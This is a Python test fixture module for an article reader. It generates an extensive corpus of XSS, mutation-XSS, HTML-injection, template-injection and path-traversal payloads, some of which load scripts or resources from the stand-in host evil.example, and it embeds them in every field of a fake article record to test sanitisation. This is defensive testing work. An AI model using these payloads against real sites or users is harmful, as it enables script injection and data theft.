"""Texts that try to run, to load, or to break out: what an archived article may hold in any of its fields.

Each would call `alert` or ask `evil.example` for something, if any of the walls in its way were missing. They are of the
kinds that the OWASP cheat sheets and html5sec describe, and are written for the places where this reader puts text: body
HTML, attributes, addresses, the title, style sheets, JSON.
"""

# ruff: noqa: E501 - a payload is read best on one line

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from itertools import product

EVIL = "https://evil.example"
_RUN = "alert(1)"

_HANDLERS = (
    "onload", "onerror", "onclick", "onfocus", "onblur", "onmouseover", "onpointerenter", "onanimationstart",
    "ontransitionend", "ontoggle", "onbeforetoggle", "onwheel", "onscroll", "onscrollend", "onresize", "onpageshow",
    "onhashchange", "onmessage", "oninput", "onbegin", "onend", "onrepeat", "oncanplay", "onloadeddata", "onloadstart",
    "oncontentvisibilityautostatechange", "onauxclick", "oncut", "onpaste", "ondrag", "onformdata", "oninvalid",
    "onsecuritypolicyviolation", "onslotchange", "onwebkitanimationstart", "onbeforeinput",
)  # fmt: skip
_BEARERS = (
    "<img src=x {h}={r}>", '<svg {h}="{r}">', "<details open {h}={r}><summary>x</summary></details>",
    "<video autoplay {h}={r}><source src=x></video>",
)  # fmt: skip
_SCHEMES = (
    "javascript:{r}", "JaVaScRiPt:{r}", "java\tscript:{r}", "java\nscript:{r}", " javascript:{r}", "\x01javascript:{r}",
    "javascript&colon;{r}", "&#106;avascript:{r}", "&#x6A;avascript:{r}", "java&#x09;script:{r}", "javascript:/*-->*/{r}",
    "data:text/html,<script>{r}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:{r}",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{r}'/>", "blob:{r}", "//evil.example/x",
    "\\\\evil.example\\x", "/\\evil.example/x", "https:/evil.example/x",
)  # fmt: skip
_SINKS = (
    '<a href="{u}">press</a>', '<img src="{u}">', '<iframe src="{u}"></iframe>', '<form action="{u}"><button>x</button></form>',
    '<object data="{u}"></object>', '<svg><a xlink:href="{u}"><text y="9">x</text></a></svg>',
)  # fmt: skip
_SCRIPTS = (
    "<script>{r}</script>", "<ScRiPt>{r}</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script>{r}",
    "<script/x>{r}</script>", "<<script>{r}//<</script>", "<scr<script>ipt>{r}</scr</script>ipt>", "</script><script>{r}</script>",
    "<script type=module>import '//evil.example/x.js'</script>", "<svg><script>{r}</script></svg>", "<svg><script href=//evil.example/x.js />",
    "<math><script>{r}</script></math>", "<template><script>{r}</script></template>", "<noscript><p title='</noscript><img src=x onerror={r}>'>",
    "<textarea></textarea><script>{r}</script>", "<title></title><script>{r}</script>", "<!--><script>{r}</script>-->", "<!-- --!><script>{r}</script> -->",
    "<![CDATA[><script>{r}</script>]]>", "<?xml ?><script>{r}</script>", "<xmp></xmp><script>{r}</script>", "<style></style><script>{r}</script>",
    "<iframe srcdoc='<script>parent.{r}</script>'></iframe>", "<iframe srcdoc='&lt;script&gt;{r}&lt;/script&gt;'></iframe>",
    "<embed src='data:text/html,<script>{r}</script>'>", "<object data='data:text/html,<script>{r}</script>'></object>",
    "<script\x00>{r}</script>", "<\x00script>{r}</script>", "<script\n>{r}</script\n>", "\uff1cscript\uff1e{r}\uff1c/script\uff1e",
)  # fmt: skip
_STYLES = (
    "<style>@import '//evil.example/x.css';</style>", "<style>body{{background:url(//evil.example/x)}}</style>", "<style>*{{display:none!important}}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=preload as=image href=//evil.example/x>", "<link rel=prefetch href=//evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example>", "<link rel=preconnect href=//evil.example>", "<link rel=icon href=//evil.example/i.ico>",
    "<p style=\"background:url('//evil.example/x')\">x</p>", "<p style='position:fixed;inset:0;background:red'>x</p>", "<p style='width:expression({r})'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x)'>x</p>", "<table background=//evil.example/x><tr><td>x</td></tr></table>", "<td background=//evil.example/x>x</td>",
    "<body background=//evil.example/x onload={r}>", "<p class='unseen'>hide me</p>", "<p id=main>x</p>", "<img id=q name=getElementById>",
    "<form id=results><input name=replaceWith></form>", "<svg><style>@import '//evil.example/x';</style></svg>", "<svg><image href=//evil.example/x /></svg>",
    "<svg><use href=//evil.example/x#y /></svg>", "<svg><filter><feImage href=//evil.example/x /></filter></svg>", "<font color=red size=7 face='x'>x</font>",
    "<marquee onstart={r}>x</marquee>", "<input autofocus onfocus={r}>", "<select autofocus onfocus={r}>", "<textarea autofocus onfocus={r}>",
    "<button autofocus onfocus={r}>x</button>", "<a href=x tabindex=1 autofocus onfocus={r}>x</a>", "<keygen autofocus onfocus={r}>",
)  # fmt: skip
_LOADS = (
    "<img src=//evil.example/x>", "<img srcset='//evil.example/x 1x, //evil.example/y 2x'>", "<picture><source srcset=//evil.example/x><img src=x></picture>",
    "<video poster=//evil.example/x></video>", "<video src=//evil.example/x autoplay></video>", "<audio src=//evil.example/x autoplay></audio>",
    "<video><track src=//evil.example/x default></video>", "<iframe src=//evil.example/></iframe>", "<frameset><frame src=//evil.example/></frameset>",
    "<embed src=//evil.example/x>", "<object data=//evil.example/x></object>", "<applet code=x archive=//evil.example/x></applet>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<meta http-equiv=refresh content='0;url=javascript:{r}'>", "<base href=//evil.example/><img src=x>",
    "<base target=_top>", "<form action=//evil.example/><input name=a><input type=submit autofocus></form>", "<button formaction=//evil.example/>x</button>",
    "<isindex action=//evil.example/>", "<a href=//evil.example/ ping=//evil.example/p>x</a>", "<img src=x lowsrc=//evil.example/x>", "<img dynsrc=//evil.example/x>",
    "<bgsound src=//evil.example/x>", "<layer src=//evil.example/x></layer>", "<portal src=//evil.example/></portal>", "<fencedframe src=//evil.example/></fencedframe>",
    "<img src='//evil.example/?", "<img src=\"//evil.example/?", "<a href='//evil.example/?", "<input type=image src=//evil.example/x>",
    "<image src=//evil.example/x>", "<img src=x crossorigin usemap=#m><map name=m><area href=javascript:{r} coords=0,0,9,9></map>",
    "<div style='content:url(//evil.example/x)'>", "<q cite=//evil.example/x>x</q>", "<blockquote cite=javascript:{r}>x</blockquote>", "<ins cite=//evil.example/x>x</ins>",
)  # fmt: skip
_BREAKOUTS = (
    "\"><script>{r}</script>", "'><script>{r}</script>", "\" onmouseover=\"{r}", "' onmouseover='{r}", "` onmouseover=`{r}", "\"autofocus onfocus=\"{r}", "</title><script>{r}</script>",
    "</textarea><script>{r}</script>", "</style><script>{r}</script>", "</a><script>{r}</script>", "</main></body><script>{r}</script>", "--><script>{r}</script>", "]]><script>{r}</script>",
    "{{{{7*7}}}}", "{{{{ page.__class__.__mro__ }}}}", "{{% for x in ().__class__ %}}{{% endfor %}}", "${{{r}}}", "#{{{r}}}", "<%= {r} %>", "\u202e\u2066<script>{r}</script>\u2069",
    "\u2028</script><script>{r}</script>", "\\u003cscript\\u003e{r}\\u003c/script\\u003e", "&lt;script&gt;{r}&lt;/script&gt;", "&amp;lt;script&amp;gt;{r}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{r}%3C/script%3E", "+ADw-script+AD4-{r}+ADw-/script+AD4-", "\x02<mark onclick={r}>\x03", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={r} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={r}//>\\x3e",
    "'\";!--\"<XSS>=&{{()}}", "../../../../etc/passwd", "\x1b[31mred\x1b[0m", "A" * 3000,
)  # fmt: skip
_MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={r}&gt;\">", "<svg></p><style><a id=\"</style><img src=x onerror={r}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={r}>", "<math><mi><table><mglyph><svg><mtext><style><path id=\"</style><img src=x onerror={r}>\">",
    "<noscript><style></noscript><img src=x onerror={r}></style>", "<svg><desc><![CDATA[</desc><img src=x onerror={r}>]]></svg>", "<svg><foreignObject><iframe src=javascript:{r}></iframe></foreignObject></svg>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={r}>\">", "<table><td><a><table></table><img src=x onerror={r}></a></td></table>",
    "<a><table><a href=javascript:{r}>x</a></table></a>", "<p><b><p></b><img src=x onerror={r}>", "<xmp><p title='</xmp><img src=x onerror={r}>'>", "<noembed><p title='</noembed><img src=x onerror={r}>'>",
    "<plaintext><img src=x onerror={r}>", "<svg><set attributeName=href to=javascript:{r} /><a><text>x</text></a></svg>", "<svg><animate onbegin={r} attributeName=x dur=1s>", "<math href=javascript:{r}>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{r}>x</maction></math>", "<svg><a><rect width=9 height=9 /><animate attributeName=href values=javascript:{r} /></a></svg>", "<div><template shadowrootmode=open><script>{r}</script></template></div>",
    "<img src=x:x onerror={r}//", "<img/src/onerror={r}>", "<img src=`x`onerror={r}>", "<img\fsrc=x\fonerror={r}>", "<img src=x onerror\n=\n{r}>", "<img \"\"\"><script>{r}</script>\">", "<a href=\"x\"onclick={r}>x</a>",
    "<IMG SRC=x OnErRoR={r}>", "<img src=x onerror=&#97;lert(1)>", "<img src=x onerror=\\u0061lert(1)>", "<x onclick={r} tabindex=0>x</x>", "<a-b is=x onfocus={r} tabindex=0 autofocus>x</a-b>",
)  # fmt: skip


def _every() -> Iterator[str]:
    for number, handler in enumerate(_HANDLERS):
        for bearer in (_BEARERS[number % 4], _BEARERS[(number + 1) % 4]):
            yield bearer.format(h=handler, r=_RUN)
    for number, (scheme, sink) in enumerate(product(_SCHEMES, _SINKS)):
        address = scheme.format(r=_RUN)
        yield sink.format(u=address if "&" in scheme or number % 2 else escape(address))
    for kind in (_SCRIPTS, _STYLES, _LOADS, _BREAKOUTS, _MUTATIONS):
        yield from (form.format(r=_RUN) for form in kind)


PAYLOADS = tuple(dict.fromkeys(_every()))
ADDRESSES = tuple(scheme.format(r=_RUN) for scheme in _SCHEMES)


def poisoned(number: int, payload: str) -> dict[str, object]:
    """Return an article with a payload in every field that is shown, each beside a word that must stay readable."""
    address = ADDRESSES[number % len(ADDRESSES)]

    def text(word: str) -> str:
        return f"{word}{number} {payload}"

    def attachment(place: int) -> dict[str, object]:
        return {"id": f"{number}{place}", "url": f"https://cdn.example.org/{number}/{place}.jpg", "name": text("plate"),
                "description": text("caption"), "type": "image", "focal": payload, "transforms": [
                    {"x": payload[:20], "y": "0", "url": address}]}  # fmt: skip

    def term(key: str, word: str, **more: object) -> dict[str, object]:
        return {key: f"{word}-{number}", "name": text(word), "slug": payload[:200], "url": address,
                "description": text("about"), "image": address, **more}  # fmt: skip

    return {
        "objectType": "Article", "id": str(5000 + number), "status": payload[:40], "url": address, "shorturl": address,
        "slug": payload[:200], "title": text("headline"), "teaser": payload, "byline": text("byline"),
        "contentType": {"id": "1", "name": payload[:60]}, "firstPublished": "2023-07-06 12:54:06", "lastUpdate": payload[:60],
        "summary": f"<p>summary{number}</p>{payload}", "introduction": f"<p>introduction{number}</p>{payload}",
        "contents": f"<p>before{number}</p>{payload}\n<p>after{number}</p>", "description": text("description"),
        "subtitle": text("subtitle"), "dm_custom_section_label": text("kicker"), "tag": payload, "recipe_name": text("recipe"),
        "difficulty": payload, "astuce": payload, "source": {"name": text("source"), "url": address},
        "sponsor": {"name": text("sponsor"), "url": address, "image": address}, "externalUrl": address,
        "attachments": [attachment(1), attachment(2), {"id": "", "url": address, "description": payload}],
        "inline_attachments": [{**attachment(3), "type": "inline_image"}],
        "categories": [term("id", "category", typeId={"locale": payload[:40], "name": payload})],
        "keywords": [{"type": "Keyword", "data": term("keywordId", "keyword", display_name=text("keyword"))}],
        "authors": [term("id", "author", biography=payload, department=payload)],
        "elements": {"youtube": [payload[:80]]}, "options": {"custom": payload, "chef": payload},
        "related": [{"id": "5001", "title": text("related"), "url": address}],
        "seo": {"search_title": payload, "social_image": address},
    }  # fmt: skip
